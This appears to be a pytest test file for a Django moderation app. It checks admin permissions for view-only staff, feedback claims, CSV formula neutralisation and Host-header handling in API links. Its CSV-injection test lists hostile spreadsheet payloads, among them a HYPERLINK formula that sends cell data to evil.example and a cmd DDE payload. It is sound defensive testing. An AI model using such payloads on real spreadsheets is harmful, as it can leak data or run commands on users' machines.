"""Permissions and data hygiene (issue 10, item 7): every admin action and console view is
refused to a view-only staff user (nothing changes) and works with the permission its effect
needs; feedback respects another moderator's claim like a decision; CSV exports neutralise
formula cells; API links never come from the Host header."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Permission, User
from django.test import override_settings
from django.urls import reverse
from rest_framework.test import APIClient

from moderation import claims
from moderation.library_csv import csv_rows, neutralise, parse_csv
from moderation.models import FeedbackRequest, HashEntry, Job, ReviewEvent
from tests.pipeline.test_libraries import random_hashes
from tests.pipeline.test_review import make_job

pytestmark = pytest.mark.django_db

JOBS = reverse("admin:moderation_job_changelist")
HASHES = reverse("admin:moderation_hashentry_changelist")
VIEW_ONLY = ("view_job", "view_hashentry", "view_reviewevent")


def staff(name: str, *codenames: str) -> User:
    user = User.objects.create_user(name, password="pw", is_staff=True)
    for codename in codenames:
        user.user_permissions.add(Permission.objects.get(content_type__app_label="moderation",
                                                         codename=codename))
    return User.objects.get(pk=user.pk)


def failed_job() -> Job:
    return Job.objects.create(media_kind="image", provider="local", status="failed",
                              file_name="a.png", error_code="corrupt_image")


def job_state(job: Job):
    job.refresh_from_db()
    return (job.status, job.review_state, job.decision, job.claimed_by_id,
            job.events.count(), job.feedback.count())


# --- admin actions on jobs ----------------------------------------------------------------

#: action -> (permission its effect needs, a job it applies to, what "it worked" looks like)
JOB_ACTIONS = {
    "retry_jobs": ("change_job", failed_job, lambda job: job.status == "pending"),
    "approve_jobs": ("review_job", make_job, lambda job: job.decision == "approved"),
    "reject_jobs": ("review_job", make_job, lambda job: job.decision == "rejected"),
    "delete_selected": ("delete_job", failed_job,
                        lambda job: not Job.objects.filter(pk=job.pk).exists()),
}


@pytest.mark.parametrize("action", sorted(JOB_ACTIONS))
def test_job_actions_refuse_a_view_only_user_and_work_with_their_permission(client, action):
    permission, make, worked = JOB_ACTIONS[action]
    job = make()
    before = job_state(job)
    client.force_login(staff("viewer", *VIEW_ONLY))
    listing = client.get(JOBS).content.decode()
    assert f'value="{action}"' not in listing  # not offered
    answer = client.post(JOBS, {"action": action, "_selected_action": [job.pk], "post": "yes"})
    assert answer.status_code in (200, 302, 403)
    assert job_state(job) == before  # refused: nothing changed

    client.force_login(staff("operator", "view_job", permission))
    assert f'value="{action}"' in client.get(JOBS).content.decode()
    client.post(JOBS, {"action": action, "_selected_action": [job.pk], "post": "yes"})
    if Job.objects.filter(pk=job.pk).exists():
        job.refresh_from_db()
    assert worked(job)


def test_retry_is_not_granted_by_review_or_feedback_permissions(client):
    job = failed_job()
    client.force_login(staff("moderator", "view_job", "review_job", "send_feedback"))
    client.post(JOBS, {"action": "retry_jobs", "_selected_action": [job.pk]})
    job.refresh_from_db()
    assert job.status == "failed" and not job.events.filter(action="requeued").exists()


# --- the console's views ------------------------------------------------------------------


def console_posts(job: Job):
    name = "admin:moderation_job_%s"
    return {
        "decide": (reverse(name % "decide", args=[job.pk]), {"decision": "approved"}),
        "skip": (reverse(name % "skip", args=[job.pk]), {}),
        "claim": (reverse(name % "claim", args=[job.pk]), {}),
        "release": (reverse(name % "release", args=[job.pk]), {}),
        "feedback": (reverse(name % "feedback", args=[job.pk]), {"decision": "approved"}),
    }


def test_console_posts_refuse_a_view_only_user(client):
    job = make_job(frames=2, flagged_every=1)
    holder = staff("holder", "view_job", "review_job")
    claims.claim(job, holder)
    before = job_state(job)
    client.force_login(staff("viewer", *VIEW_ONLY))
    for name, (url, data) in console_posts(job).items():
        assert client.post(url, data).status_code == 403, name
    assert client.get(reverse("admin:moderation_job_queue")).status_code == 403
    assert client.get(reverse("admin:moderation_job_queue_next")).status_code == 403
    assert job_state(job) == before
    # the job page itself is readable, and claims nothing for a viewer
    assert client.get(reverse("admin:moderation_job_review", args=[job.pk])).status_code == 200
    assert job_state(job) == before


def test_console_posts_work_with_their_permissions(client):
    job = make_job(frames=2, flagged_every=1)
    client.force_login(staff("sender", "view_job", "send_feedback"))
    url, data = console_posts(job)["feedback"]
    assert client.post(url, data).status_code == 302
    assert FeedbackRequest.objects.filter(job=job).count() == 1
    client.force_login(staff("reviewer", "view_job", "review_job"))
    url, data = console_posts(job)["decide"]
    assert client.post(url, data).status_code == 302
    job.refresh_from_db()
    assert job.decision == "approved"


def test_console_feedback_needs_view_job_too(client):
    job = make_job(frames=1, flagged_every=1)
    client.force_login(staff("blind", "send_feedback"))
    url, data = console_posts(job)["feedback"]
    assert client.post(url, data).status_code == 403
    assert not FeedbackRequest.objects.exists()


# --- feedback on an item another moderator holds -------------------------------------------


def test_console_feedback_on_an_item_claimed_by_another_is_refused(client):
    job = make_job(frames=2, flagged_every=1)
    holder = staff("holder", "view_job", "review_job")
    assert claims.claim(job, holder)
    sender = staff("sender", "view_job", "send_feedback", "review_job")
    client.force_login(sender)
    page = client.get(reverse("admin:moderation_job_review", args=[job.pk])).content.decode()
    assert 'id="mod-feedback"' not in page and "feedback waits" in page
    url, data = console_posts(job)["feedback"]
    answer = client.post(url, data, follow=True)
    assert "Another moderator is reviewing" in answer.content.decode()
    assert not FeedbackRequest.objects.exists()
    claims.release(job, holder)  # once free, the same feedback goes through
    client.post(url, data)
    assert FeedbackRequest.objects.filter(job=job, created_by=sender).count() == 1


def test_api_feedback_on_an_item_claimed_by_another_is_409(client):
    job = make_job(frames=1, flagged_every=1)
    holder = staff("holder", "view_job", "review_job")
    assert claims.claim(job, holder)
    api = APIClient()
    api.force_authenticate(staff("sender", "view_job", "send_feedback"))
    url = f"/api/moderation/jobs/{job.pk}/feedback/"
    answer = api.post(url, {"decision": "rejected"}, format="json")
    assert answer.status_code == 409 and "claimed by another" in answer.json()["detail"]
    assert not FeedbackRequest.objects.exists()
    assert not ReviewEvent.objects.filter(job=job, action="feedback").exists()
    holder.user_permissions.add(Permission.objects.get(codename="send_feedback"))
    api.force_authenticate(User.objects.get(pk=holder.pk))  # the holder may
    assert api.post(url, {"decision": "rejected"}, format="json").status_code == 202


# --- hash library admin --------------------------------------------------------------------


def test_library_actions_and_views_refuse_a_view_only_user(client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    entry = HashEntry.objects.create(list_type="block", label="x", pdq=random_hashes(1)[0])
    client.force_login(staff("viewer", *VIEW_ONLY))
    listing = client.get(HASHES).content.decode()
    assert 'value="export_selected"' not in listing and 'value="delete_selected"' not in listing
    for action in ("export_selected", "delete_selected"):
        answer = client.post(HASHES, {"action": action, "_selected_action": [entry.pk],
                                      "post": "yes"})
        assert not answer.get("Content-Disposition")
    upload = SimpleUploadedFile("h.csv", random_hashes(2, seed=5)[1].encode())
    assert client.post(reverse("admin:moderation_hashentry_import"),
                       {"file": upload, "list_type": "block"}).status_code == 403
    assert client.get(reverse("admin:moderation_hashentry_export")).status_code == 403
    change = reverse("admin:moderation_hashentry_change", args=[entry.pk])
    client.post(change, {"list_type": "allow", "label": "y", "pdq": entry.pdq, "quality": 0})
    assert client.post(reverse("admin:moderation_hashentry_add"),
                       {"list_type": "block", "pdq": random_hashes(3, seed=9)[2]}
                       ).status_code == 403
    entry.refresh_from_db()
    assert (entry.list_type, entry.label, HashEntry.objects.count()) == ("block", "x", 1)

    client.force_login(staff("curator", "view_hashentry", "change_hashentry",
                             "delete_hashentry"))
    answer = client.post(HASHES, {"action": "export_selected", "_selected_action": [entry.pk]})
    assert answer["Content-Disposition"].startswith("attachment")
    client.post(HASHES, {"action": "delete_selected", "_selected_action": [entry.pk],
                         "post": "yes"})
    assert not HashEntry.objects.exists()


# --- CSV injection --------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def read_back(lines) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(lines))))


def test_exported_formula_cells_are_neutralised_and_import_back_unchanged():
    pdqs = random_hashes(len(HOSTILE), seed=3)
    for pdq, hostile in zip(pdqs, HOSTILE, strict=True):
        HashEntry.objects.create(list_type="block", label=hostile[:100], note=hostile, pdq=pdq)
    rows = read_back(csv_rows(HashEntry.objects.all()))
    assert rows[0] == ["pdq", "label", "note", "list_type"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert row[1].startswith("'") and row[2].startswith("'")
    parsed = parse_csv("".join(csv_rows(HashEntry.objects.all())))
    assert not parsed.errors
    assert sorted(e.note for e in parsed.entries) == sorted(HOSTILE)


def test_neutralise_leaves_ordinary_values_alone():
    assert neutralise("pt_qrCode") == "pt_qrCode" and neutralise(None) == ""
    assert neutralise("a=b") == "a=b" and neutralise("'=x") == "'=x"
    assert neutralise("=x") == "'=x"


def test_admin_export_view_neutralises_too(client, admin_user):
    HashEntry.objects.create(list_type="block", label="=cmd()", note="@x",
                             pdq=random_hashes(1, seed=7)[0])
    client.force_login(admin_user)
    body = b"".join(client.get(reverse("admin:moderation_hashentry_export"))
                    .streaming_content).decode()
    row = read_back([body])[1]
    assert row[1:3] == ["'=cmd()", "'@x"]


# --- API links and the Host header ----------------------------------------------------------


@pytest.fixture
def viewer_api():
    api = APIClient()
    api.force_authenticate(staff("api-viewer", "view_job"))
    return api


def job_links(api, job, host: str) -> list[str]:
    detail = api.get(f"/api/moderation/jobs/{job.pk}/", HTTP_HOST=host).json()
    frames = api.get(f"/api/moderation/jobs/{job.pk}/frames/?page_size=1",
                     HTTP_HOST=host).json()
    links = [detail["frames_url"], detail["slices_url"], frames["next"],
             frames["results"][0]["thumbnail_url"]]
    return links


@override_settings(ALLOWED_HOSTS=["*"])
def test_api_links_ignore_a_forged_host_header(viewer_api):
    job = make_job(frames=3, flagged_every=1)
    links = job_links(viewer_api, job, "evil.example")
    assert all("evil.example" not in link for link in links), links
    assert all(link.startswith("/") for link in links), links  # relative: no base set
    assert viewer_api.get(links[0]).status_code == 200


@override_settings(ALLOWED_HOSTS=["*"])
def test_api_links_use_public_base_url_when_set(viewer_api, settings):
    job = make_job(frames=3, flagged_every=1)
    with override_settings(MODERATION={**settings.MODERATION,
                                       "PUBLIC_BASE_URL": "https://mod.example.org/"}):
        links = job_links(viewer_api, job, "evil.example")
    assert all(link.startswith("https://mod.example.org/") for link in links), links
    assert links[2].endswith("page=2&page_size=1")
